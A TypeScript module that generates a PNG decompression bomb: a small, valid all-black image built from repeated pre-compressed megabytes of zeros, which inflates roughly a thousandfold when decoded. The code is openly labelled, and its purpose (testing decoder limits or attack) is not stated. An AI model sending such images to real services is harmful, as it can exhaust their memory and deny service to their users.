// A small PNG that is huge when decoded, built from repetitions of one compressed megabyte of black, without building the huge
// picture.
import { constants, crc32, deflateRawSync } from 'node:zlib'

const MEGABYTE = 1 << 20

const word = (value: number): Buffer => {
  const four = Buffer.alloc(4)
  four.writeUInt32BE(value >>> 0)
  return four
}

function chunk(type: string, data: Buffer): Buffer {
  const content = Buffer.concat([Buffer.from(type, 'latin1'), data])
  return Buffer.concat([word(data.length), content, word(crc32(content))])
}

/** A valid, all-black RGB picture of the given size: about a thousandth of its bytes. */
export function pngBomb(width: number, height: number): Buffer {
  const bytes = height * (1 + width * 3)
  const black = (length: number, finishFlush: number) => deflateRawSync(Buffer.alloc(length), { level: 9, finishFlush })
  // A block that neither ends the stream nor refers back.
  const block = black(MEGABYTE, constants.Z_FULL_FLUSH)
  const data = Buffer.concat([
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: Math.floor(bytes / MEGABYTE) }, () => block),
    black(bytes % MEGABYTE, constants.Z_FINISH),
    // Adler-32 of zeros: the first half stays 1, the second counts them.
    word(((bytes % 65_521) << 16) | 1),
  ])
  const head = Buffer.concat([word(width), word(height), Buffer.from([8, 2, 0, 0, 0])])
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', data),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
